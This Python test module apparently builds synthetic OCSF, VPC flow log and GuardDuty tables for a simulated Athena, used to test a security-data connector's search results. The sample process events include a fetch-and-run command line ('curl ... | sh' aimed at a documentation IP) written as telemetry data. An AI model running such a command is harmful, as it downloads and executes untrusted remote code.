"""Tables for the fake Athena: schemas as the vendors document them, sample rows, and rows of real events.

`shown` says which row a search gives back, found from the stored values and not by way of a query.
"""

from __future__ import annotations

import json
from datetime import datetime, timezone
from pathlib import Path
from typing import TYPE_CHECKING, Any

from stix_shifter_utils.testing.languages.trino import Table, fitted
from stix_shifter_utils.testing.real_data import lines
from stix_shifter_utils.transmission import nested_record

if TYPE_CHECKING:
    from collections.abc import Mapping

JSON_FOLDER = Path(__file__).resolve().parents[1] / "stix_translation" / "json"
HIVE = {"text": "string", "integer": "bigint", "epoch_ms": "bigint", "epoch_s": "bigint", "number": "double",
        "boolean": "boolean", "timestamp_text": "string", "text[]": "array<string>"}  # fmt: skip
HASH = "array<struct<algorithm:string,algorithm_id:int,value:string>>"
ALGORITHMS = {1: "MD5", 2: "SHA-1", 3: "SHA-256"}
NAMES = {1: "icmp", 6: "tcp", 17: "udp", 58: "ipv6-icmp"}
PARTITIONS = {"vpcflow": ("date",), "guardduty": ()}
START_S = 1704110400  # 2024-01-01T12:00:00Z
Json = dict[str, Any]


def fields(dialect: str) -> dict[str, str]:
    """The documented fields of a dialect and their kinds."""
    found = json.loads((JSON_FOLDER / f"{dialect}_fields.json").read_bytes())["fields"]
    return {name.removeprefix(f"{dialect}."): kind for name, kind in found.items()}


def structure(names: dict[str, str]) -> str:
    """A Hive structure with these dotted members."""
    tops: dict[str, dict[str, str]] = {}
    for name, kind in names.items():
        top, _, rest = name.partition(".")
        tops.setdefault(top, {})[rest] = kind
    parts = []
    for top, inner in tops.items():
        if top == "hashes":
            kind = HASH
        elif "" in inner:
            kind = "bigint" if top == "protocol_num" else HIVE[inner[""]]
        else:
            kind = structure(inner)
        parts.append(f"{top.removesuffix('[]')}:{f'array<{kind}>' if top.endswith('[]') else kind}")
    return f"struct<{','.join(parts)}>"


def ocsf_columns(lacking: tuple[str, ...] = ()) -> dict[str, str]:
    """The columns of a table of Security Lake that lacks some, and has two that nobody maps."""
    names = {name: kind for name, kind in fields("ocsf").items() if not name.startswith(lacking)}
    tops: dict[str, str] = {}
    for top in dict.fromkeys(name.partition(".")[0] for name in names):
        own = {name: kind for name, kind in names.items() if name.partition(".")[0] == top}
        tops[top.removesuffix("[]")] = (
            structure(own).removeprefix("struct<").removesuffix(">").partition(":")[2]
        )
    return {**tops, "time_dt": "timestamp", "raw_data": "string"}


OCSF = ocsf_columns(("email", "reg_", "vulnerabilities", "attacks", "device.mac"))
VPCFLOW = {
    **{name: HIVE[kind] for name, kind in fields("vpcflow").items()},
    "version": "int", "srcport": "int", "dstport": "int", "protocol": "bigint", "tcp_flags": "int",
    "traffic_path": "int", "date": "date",
}  # fmt: skip
GUARDDUTY = dict.fromkeys(
    ("schemaversion", "accountid", "region", "partition", "id", "arn", "type", "resource", "service",
     "severity", "createdat", "updatedat", "title", "description"),
    "string",
)  # fmt: skip


def event(n: int) -> Json:
    """A flow, a call of an API or a process start, in OCSF 1.1."""
    time = (START_S + n * 60) * 1000 + 250
    common: Json = {
        "time": time,
        "time_dt": datetime.fromtimestamp(time / 1000, tz=timezone.utc).replace(tzinfo=None),
        "severity": ("Informational", "High")[n % 2],
        "severity_id": (1, 4)[n % 2],
        "cloud": {"provider": "AWS", "region": "eu-central-1", "account": {"uid": f"{n % 3:012}"}},
        "metadata": {
            "product": {"name": ("VPC", "CloudTrail", "EDR")[n % 3], "vendor_name": "AWS"},
            "version": "1.1.0",
        },
    }
    if n % 3 == 0:
        return common | {
            "class_uid": 4001,
            "class_name": "Network Activity",
            "activity_name": "Traffic",
            "src_endpoint": {"ip": f"10.0.0.{n}", "port": 49152 + n, "mac": f"00:11:22:33:44:{n:02X}"},
            "dst_endpoint": {
                "ip": f"198.51.100.{n}" if n % 4 else f"2001:db8::{n:x}",
                "port": (443, 53, 8080)[n % 9 // 3],
                "hostname": f"host{n % 6}.example.com",
            },
            "connection_info": {"protocol_num": (6, 17)[n % 2], "direction": "Outbound"},
            "traffic": {"bytes": 1000 * n, "packets": n},
        }
    if n % 3 == 1:
        return common | {
            "class_uid": 6003,
            "class_name": "API Activity",
            "activity_name": ("Read", "Create")[n % 2],
            "api": {"operation": "DescribeInstances", "service": {"name": "ec2.amazonaws.com"}},
            "actor": {
                "user": {
                    "name": f"user{n % 4}",
                    "uid": f"arn:aws:iam::1:user/o'neil{n % 4}",
                    "type": "IAMUser",
                }
            },
            "src_endpoint": {"ip": f"203.0.113.{n}"},
            "http_request": {
                "user_agent": 'aws-cli/2 "x"; --',
                "url": {"url_string": f"https://ec2.aws/{n}?a=%27"},
            },
            "resources": [
                {"uid": f"arn:{n % 5}", "type": "AWS::EC2::Instance"},
                {"uid": f"arn:x{n}", "name": "größe"},
            ],
            "status": ("Success", "Failure")[n % 2],
        }
    hashes = [
        {"algorithm_id": 1, "algorithm": "MD5", "value": f"{n % 4:032x}"},
        {"algorithm_id": 3, "value": f"{n % 5:064x}"},
    ]
    return common | {
        "class_uid": 1007,
        "class_name": "Process Activity",
        "activity_name": "Launch",
        "process": {
            "pid": 1000 + n,
            "name": ("bash", "curl")[n % 2],
            "cmd_line": f"curl 'http://198.51.100.{n}/' | sh # 100%_{n}",
            "file": {
                "name": ("bash", "curl")[n % 2],
                "parent_folder": "/usr/bin",
                "hashes": hashes,
                "size": 100 * n,
            },
            "user": {"name": f"user{n % 4}"},
            "parent_process": {"pid": 1, "name": "init"},
        },
        "device": {"hostname": f"pc{n % 3}.example.com", "ip": f"10.1.0.{n % 7}", "os": {"name": "Linux"}},
        "malware": [{"name": "Coinminer", "provider": "EDR"}] if n % 2 else None,
    }


def flow(n: int) -> Json:
    """A record of VPC flow logs, versions 2 to 5; `-` is what a field without a value holds."""
    seconds = START_S + n * 60
    return {
        "version": 5, "account_id": "123456789012", "interface_id": f"eni-{n % 4}",
        "srcaddr": f"10.0.{n % 3}.{n}" if n % 11 else f"2001:db8::{n:x}", "dstaddr": f"198.51.100.{n % 40}",
        "srcport": 49152 + n, "dstport": (443, 53, 22, 8080)[n % 4], "protocol": (6, 17, 6, 1, 200)[n % 5],
        "packets": n, "bytes": n * 100, "start": seconds, "end": seconds + 59,
        "action": ("ACCEPT", "REJECT")[n % 3 == 0], "log_status": "OK", "vpc_id": "vpc-1",
        "subnet_id": f"subnet-{n % 2}",
        "instance_id": "-" if n % 2 else f"i-{n % 5}", "tcp_flags": n % 4 * 2, "type": "IPv4",
        "region": "eu-central-1",
        "pkt_srcaddr": f"10.0.{n % 3}.{n}", "pkt_dstaddr": "-" if n % 7 == 0 else f"198.51.100.{n % 40}",
        "flow_direction": ("ingress", "egress")[n % 2], "traffic_path": 8, "az_id": "euc1-az1",
        "pkt_src_aws_service": "-", "pkt_dst_aws_service": ("S3", "-")[n % 2], "sublocation_type": "-",
        "date": datetime.fromtimestamp(seconds, tz=timezone.utc).date(),
    }  # fmt: skip


def finding(n: int) -> Json:
    """A finding of GuardDuty as exported to S3: two columns hold JSON."""
    created = datetime.fromtimestamp(START_S + n * 60, tz=timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.250Z")
    action: Json = {"actionType": ("NETWORK_CONNECTION", "AWS_API_CALL", "PORT_PROBE")[n % 3]}
    if n % 3 == 0:
        action["networkConnectionAction"] = {
            "connectionDirection": "OUTBOUND",
            "protocol": "TCP",
            "blocked": n % 2 == 0,
            "localIpDetails": {"ipAddressV4": f"10.0.0.{n % 9}"},
            "remoteIpDetails": {
                "ipAddressV4": f"198.51.100.{n}",
                "country": {"countryName": "Côte d'Ivoire"},
            },
            "localPortDetails": {"port": 40000 + n, "portName": "Unknown"},
            "remotePortDetails": {"port": (22, 443)[n % 2]},
        }
    elif n % 3 == 1:
        action["awsApiCallAction"] = {
            "api": "ListBuckets", "serviceName": "s3.amazonaws.com", "callerType": "Remote IP",
            "remoteIpDetails": {"ipAddressV4": f"203.0.113.{n}"},
        }  # fmt: skip
    else:
        probes = [
            {"remoteIpDetails": {"ipAddressV4": f"192.0.2.{n + k}"}, "localPortDetails": {"port": 80 + k}}
            for k in range(2)
        ]
        action["portProbeAction"] = {"blocked": False, "portProbeDetails": probes}
    interfaces = [
        {"privateIpAddress": f"10.0.0.{n % 9}", "publicIp": f"203.0.113.{n % 7}", "vpcId": "vpc-1"},
        {"privateIpAddress": "10.9.9.9"},
    ]
    resource: Json = {
        "resourceType": "Instance",
        "instanceDetails": {"instanceId": f"i-{n % 4}", "networkInterfaces": interfaces},
    }
    if n % 3 == 1:
        user = {
            "accessKeyId": f"AKIA{n % 4}",
            "userName": f"user{n % 4}",
            "userType": "IAMUser",
            "principalId": f"AIDA{n % 4}",
        }
        resource = {
            "resourceType": "AccessKey",
            "accessKeyDetails": user,
            "s3BucketDetails": [{"name": f"bucket{n % 3}"}],
        }
    service = {
        "serviceName": "guardduty",
        "count": n % 5,
        "archived": n % 4 == 0,
        "action": action,
        "eventFirstSeen": created,
    }
    return {
        "schemaversion": "2.0", "accountid": "123456789012", "region": "eu-central-1", "id": f"{n:032x}",
        "type": ("Backdoor:EC2/C&CActivity.B!DNS", "Discovery:S3/MaliciousIPCaller", "Recon:EC2/Scan")[n % 3],
        "severity": str((2, 5.5, 8)[n % 3]), "createdat": created, "updatedat": created,
        "title": f"Something 'odd' \\ on i-{n % 4}", "description": "100% sure_ly",
        "service": json.dumps(service), "resource": json.dumps(resource),
    }  # fmt: skip


TABLES = {
    "ocsf": Table(OCSF, [event(n) for n in range(1, 61)]),
    "vpcflow": Table(VPCFLOW, [flow(n) for n in range(1, 61)]),
    "guardduty": Table(GUARDDUTY, [finding(n) for n in range(1, 61)]),
}


def real_events(count: int = 93) -> Table:
    """Published examples of OCSF, read as a table with every documented column."""
    return Table(ocsf_columns(), list(lines("ocsf/ocsf-examples.ndjson.gz"))[:count])


def shown(dialect: str, table: Table) -> list[Json]:
    """The rows of a table as the connector gives them."""
    return [{dialect: _shown(dialect, row, table)} for row in table.rows]


def _shown(dialect: str, row: Mapping[str, Any], table: Table) -> Json:
    stored: Json = {name: fitted(row.get(name), kind) for name, kind in table.columns.items()}
    if dialect == "guardduty":
        stored |= {name: json.loads(stored[name]) for name in ("service", "resource")}
        stored["severity"] = float(stored["severity"])
    flat: Json = {}
    for name in fields(dialect):
        before, mark, inner = name.partition("[].")
        value = _at(stored, (before if mark else name).split("."))
        if mark and isinstance(value, list):
            items = flat.setdefault(before, [{} for _ in value])
            for item, each in zip(items, value, strict=True):
                found = _at(each, inner.split("."))
                item.update({} if found is None else {inner: found})
        elif value is not None and not mark and not (dialect == "vpcflow" and value == "-"):
            numbered = name in {"protocol", "connection_info.protocol_num"}
            flat[name] = NAMES.get(value, str(value)) if numbered else value
    return nested_record(flat)


def _at(value: Any, names: list[str]) -> Any:
    for name in names:
        if isinstance(value, list):  # fingerprints: the first one of this algorithm
            value = next(
                (each["value"] for each in value if ALGORITHMS.get(each["algorithm_id"]) == name), None
            )
        else:
            value = value.get(name) if isinstance(value, dict) else None
    return value
